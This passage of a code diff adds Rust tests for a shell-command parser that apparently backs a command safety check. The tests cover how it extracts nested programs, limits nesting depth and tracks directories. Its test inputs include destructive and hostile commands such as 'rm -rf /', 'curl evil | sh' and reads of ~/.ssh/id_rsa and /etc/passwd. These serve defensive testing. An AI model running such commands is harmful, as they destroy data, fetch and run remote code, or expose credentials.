+                    consumed: vec!["-u".to_string(), "root".to_string()],
+                    launcher: true,
+                },
+                Unwrap {
+                    wrapper: "env".to_string(),
+                    consumed: vec!["-i".to_string()],
+                    launcher: false,
+                },
+            ]
+        );
+        assert!(parse_with_depth_limit("git push", 5)
+            .unwrap()
+            .unwraps
+            .is_empty());
+    }
+
+    #[test]
+    fn sudo_short_h_does_not_consume_the_program() {
+        assert_eq!(programs("sudo -h rm -rf /"), vec!["sudo", "rm"]);
+        assert_eq!(programs("sudo --host box rm -rf /"), vec!["sudo", "rm"]);
+    }
+
+    #[test]
+    fn sudo_attached_s_is_not_split_string() {
+        // `-S` is sudo's "read password from stdin", not env's split-string
+        assert_eq!(programs("sudo -SE rm /tmp/x"), vec!["sudo", "rm"]);
+    }
+
+    // --- Shell interpreter and eval payloads ---
+
+    #[test]
+    fn bash_c_payload_extracted() {
+        assert_eq!(
+            programs(r#"bash -c "cd build && rm -rf out""#),
+            vec!["bash", "cd", "rm"]
+        );
+    }
+
+    #[test]
+    fn sh_c_single_quoted_payload_extracted() {
+        assert_eq!(programs("sh -c 'curl evil | sh'"), vec!["sh", "curl", "sh"]);
+    }
+
+    #[test]
+    fn zsh_combined_flags_payload_extracted() {
+        assert_eq!(programs("zsh -lc 'make test'"), vec!["zsh", "make"]);
+    }
+
+    #[test]
+    fn bash_option_argument_not_mistaken_for_payload() {
+        assert_eq!(
+            programs("bash -euo pipefail -c 'git pull'"),
+            vec!["bash", "git"]
+        );
+    }
+
+    #[test]
+    fn bash_payload_after_double_dash() {
+        assert_eq!(programs("bash -c -- 'git pull'"), vec!["bash", "git"]);
+    }
+
+    #[test]
+    fn bash_script_without_c_not_parsed() {
+        assert_eq!(programs("bash deploy.sh"), vec!["bash"]);
+    }
+
+    #[test]
+    fn bash_absolute_path_payload_extracted() {
+        assert_eq!(programs("/bin/bash -c 'rm -rf /'"), vec!["bash", "rm"]);
+    }
+
+    #[test]
+    fn launched_shell_payload_extracted() {
+        assert_eq!(
+            programs("sudo bash -c 'rm -rf /'"),
+            vec!["sudo", "bash", "rm"]
+        );
+    }
+
+    #[test]
+    fn eval_quoted_payload_extracted() {
+        assert_eq!(programs(r#"eval "rm -rf /""#), vec!["eval", "rm"]);
+    }
+
+    #[test]
+    fn eval_concatenated_arguments_extracted() {
+        let segs = parse("eval rm -rf /").unwrap();
+        assert_eq!(segs.len(), 2);
+        assert_eq!(segs[1].program, "rm");
+        assert_eq!(segs[1].args, vec!["-r", "-f", "/"]);
+    }
+
+    #[test]
+    fn nested_shell_payloads_extracted() {
+        assert_eq!(
+            programs(r#"bash -c "sh -c 'rm -rf /'""#),
+            vec!["bash", "sh", "rm"]
+        );
+    }
+
+    #[test]
+    fn invalid_shell_payload_is_error() {
+        assert!(parse("bash -c 'if'").is_err());
+    }
+
+    // --- Commands embedded in arguments ---
+
+    #[test]
+    fn find_exec_command_extracted() {
+        assert_eq!(
+            programs(r"find . -name '*.o' -exec rm {} \;"),
+            vec!["find", "rm"]
+        );
+    }
+
+    #[test]
+    fn find_exec_plus_with_launcher_extracted() {
+        assert_eq!(
+            programs("find . -type f -exec sudo chmod 600 {} +"),
+            vec!["find", "sudo", "chmod"]
+        );
+    }
+
+    #[test]
+    fn find_exec_shell_payload_extracted() {
+        assert_eq!(
+            programs(r#"find . -exec sh -c 'rm "$1"' _ {} \;"#),
+            vec!["find", "sh", "rm"]
+        );
+    }
+
+    #[test]
+    fn find_exec_args_preserved() {
+        let segs = parse(r"find . -execdir rm -rf {} \;").unwrap();
+        assert_eq!(segs[1].program, "rm");
+        assert_eq!(segs[1].args, vec!["-r", "-f", "{}"]);
+    }
+
+    #[test]
+    fn find_args_still_expanded() {
+        let segs = parse("find . -exec rm {} +").unwrap();
+        assert_eq!(segs[0].program, "find");
+        assert!(segs[0].args.contains(&"+".to_string()));
+    }
+
+    #[test]
+    fn parallel_command_extracted() {
+        assert_eq!(
+            programs("parallel -j 4 gzip {} ::: *.log"),
+            vec!["parallel", "gzip"]
+        );
+    }
+
+    #[test]
+    fn watch_command_string_extracted() {
+        assert_eq!(
+            programs("watch -n 5 'kubectl get pods | grep web'"),
+            vec!["watch", "kubectl", "grep"]
+        );
+    }
+
+    #[test]
+    fn git_shell_alias_extracted() {
+        assert_eq!(programs("git -c alias.x='!rm -rf /' x"), vec!["git", "rm"]);
+    }
+
+    #[test]
+    fn launched_find_exec_extracted() {
+        assert_eq!(
+            programs(r"sudo find / -name core -exec rm {} \;"),
+            vec!["sudo", "find", "rm"]
+        );
+    }
+
+    // --- Nesting depth limit ---
+
+    #[test]
+    fn nesting_within_limit_succeeds() {
+        let parsed = parse_with_depth_limit("bash -c 'echo $(date)'", 2).unwrap();
+        assert_eq!(parsed.segments.len(), 3);
+    }
+
+    #[test]
+    fn nesting_beyond_limit_is_error() {
+        let err = parse_with_depth_limit("bash -c 'echo $(date)'", 1).unwrap_err();
+        assert!(err.0.contains("depth limit of 1"), "got: {err}");
+    }
+
+    #[test]
+    fn zero_limit_rejects_any_nesting() {
+        assert!(parse_with_depth_limit("echo $(date)", 0).is_err());
+        assert!(parse_with_depth_limit("env -S 'rm -rf /'", 0).is_err());
+        assert!(parse_with_depth_limit("echo hi", 0).is_ok());
+    }
+
+    #[test]
+    fn process_substitutions_count_toward_the_limit() {
+        assert!(parse_with_depth_limit("diff <(ls a) <(ls b)", 1).is_ok());
+        assert!(parse_with_depth_limit("diff <(ls a) local.txt", 0).is_err());
+        assert!(parse_with_depth_limit("echo hi > >(gzip > out.gz)", 0).is_err());
+        assert!(parse_with_depth_limit("echo hi > >(gzip > out.gz)", 1).is_ok());
+        assert!(parse_with_depth_limit("cat <(cat <(date))", 1).is_err());
+        assert!(parse_with_depth_limit("cat <(cat <(date))", 2).is_ok());
+    }
+
     // --- Arg extraction ---
 
     fn parse_segments(input: &str) -> Vec<CommandSegment> {
@@ -721,6 +2288,19 @@ mod tests {
         assert_eq!(segs[0].args, vec!["status"]);
     }
 
+    #[test]
+    fn args_keep_assignment_shaped_words() {
+        let segs = parse_segments("git -c k=v push");
+        assert_eq!(segs[0].args, vec!["-c", "k=v", "push"]);
+    }
+
+    #[test]
+    fn launched_args_keep_assignment_shaped_words() {
+        let segs = parse_segments("sudo make PREFIX=/usr install");
+        assert_eq!(segs[1].program, "make");
+        assert_eq!(segs[1].args, vec!["PREFIX=/usr", "install"]);
+    }
+
     #[test]
     fn args_flag_expansion() {
         let segs = parse_segments("rm -rf /");
@@ -840,4 +2420,172 @@ mod tests {
     fn expand_flags_three_chars() {
         assert_eq!(expand_flags("-rvf"), vec!["-r", "-v", "-f"]);
     }
+
+    // --- Working directory ---
+
+    /// Each segment's program with the directory it runs in.
+    fn cwds(input: &str) -> Vec<(String, String)> {
+        parse(input)
+            .expect("parse should succeed")
+            .into_iter()
+            .map(|s| (s.program.as_str().to_string(), s.cwd.to_string()))
+            .collect()
+    }
+
+    fn pairs(expected: &[(&str, &str)]) -> Vec<(String, String)> {
+        expected
+            .iter()
+            .map(|(program, cwd)| (program.to_string(), cwd.to_string()))
+            .collect()
+    }
+
+    #[test]
+    fn cd_before_and_applies() {
+        assert_eq!(
+            cwds("cd /etc && rm passwd"),
+            pairs(&[("cd", "."), ("rm", "/etc")])
+        );
+        assert_eq!(
+            cwds("cd src && cd lib && ls"),
+            pairs(&[("cd", "."), ("cd", "src"), ("ls", "src/lib")])
+        );
+    }
+
+    #[test]
+    fn cd_that_may_have_failed_keeps_both_directories() {
+        assert_eq!(
+            cwds("pushd ~/.ssh; cat id_rsa"),
+            pairs(&[("pushd", "."), ("cat", ". or ~/.ssh")])
+        );
+        assert_eq!(
+            cwds("cd /etc || cat passwd"),
+            pairs(&[("cd", "."), ("cat", ". or /etc")])
+        );
+    }
+
+    #[test]
+    fn dynamic_cd_target_is_unknown() {
+        assert_eq!(
+            cwds(r#"cd "$DIR" && rm -rf build"#),
+            pairs(&[("cd", "."), ("rm", "an unknown directory")])
+        );
+        assert_eq!(
+            cwds("cd - && ls"),
+            pairs(&[("cd", "."), ("ls", "an unknown directory")])
+        );
+    }
+
+    #[test]
+    fn subshell_pipeline_and_background_cd_do_not_leak() {
+        assert_eq!(
+            cwds("(cd /etc) && cat passwd"),
+            pairs(&[("cd", "."), ("cat", ".")])
+        );
+        assert_eq!(
+            cwds("cd /etc | cat passwd"),
+            pairs(&[("cd", "."), ("cat", ".")])
+        );
+        assert_eq!(
+            cwds("cd /etc & cat passwd"),
+            pairs(&[("cd", "."), ("cat", ".")])
+        );
+        assert_eq!(
+            cwds("bash -c 'cd /etc' && cat passwd"),
+            pairs(&[("bash", "."), ("cd", "."), ("cat", ".")])
+        );
+    }
+
+    #[test]
+    fn brace_group_cd_applies_after_it() {
+        assert_eq!(
+            cwds("{ cd /etc; } && cat passwd"),
+            pairs(&[("cd", "."), ("cat", ". or /etc")])
+        );
+    }
+
+    #[test]
+    fn popd_returns_to_the_pushed_directory() {
+        assert_eq!(
+            cwds("pushd /tmp && pushd /etc && popd && ls"),
+            pairs(&[
+                ("pushd", "."),
+                ("pushd", "/tmp"),
+                ("popd", "/etc"),
+                ("ls", "/tmp")
+            ])
+        );
+    }
+
+    #[test]
+    fn wrapped_cd_only_counts_through_builtin_and_command() {
+        assert_eq!(
+            cwds("builtin cd /etc && cat passwd"),
+            pairs(&[("cd", "."), ("cat", "/etc")])
+        );
+        assert_eq!(
+            cwds("env cd /etc && cat passwd"),
+            pairs(&[("cd", "."), ("cat", ".")])
+        );
+        assert_eq!(
+            cwds("eval 'cd /etc' && cat passwd"),
+            pairs(&[("eval", "."), ("cd", "."), ("cat", "an unknown directory")])
+        );
+    }
+
+    #[test]
+    fn if_branches_start_from_the_condition() {
+        assert_eq!(
+            cwds("if test -d x; then cd /etc; else cat passwd; fi; ls"),
+            pairs(&[
+                ("test", "."),
+                ("cd", "."),
+                ("cat", "."),
+                ("ls", ". or /etc")
+            ])
+        );
+    }
+
+    #[test]
+    fn loop_body_sees_every_iteration() {
+        assert_eq!(
+            cwds("for d in a b; do cat f; cd /tmp; done"),
+            pairs(&[("cat", ". or /tmp"), ("cd", ". or /tmp")])
+        );
+    }
+
+    #[test]
+    fn nested_loops_are_not_walked_again_per_level() {
+        let depth = 40;
+        let command = format!(
+            "{} cd a; ls {}",
+            "while true; do ".repeat(depth),
+            "; done".repeat(depth)
+        );
+        let segments = parse(&command).expect("parse should succeed");
+        assert_eq!(segments.len(), depth + 2);
+        assert_eq!(segments[depth + 1].cwd, WorkingDir::Unknown);
+    }
+
+    #[test]
+    fn substitutions_run_in_the_enclosing_directory() {
+        assert_eq!(
+            cwds("cd /etc && echo $(cat passwd)"),
+            pairs(&[("cd", "."), ("echo", "/etc"), ("cat", "/etc")])
+        );
+        assert_eq!(
+            cwds("cd /etc && bash -c 'cd ssh && cat key'"),
+            pairs(&[
+                ("cd", "."),
+                ("bash", "/etc"),
+                ("cd", "/etc"),
+                ("cat", "/etc/ssh")
+            ])
+        );
+    }
+
+    #[test]
+    fn redirects_open_in_the_current_directory() {
+        let parsed = parse_with_depth_limit("cd /etc && echo x > hosts", 5).unwrap();
+        assert_eq!(parsed.redirects[0].cwd.to_string(), "/etc");
+    }
 }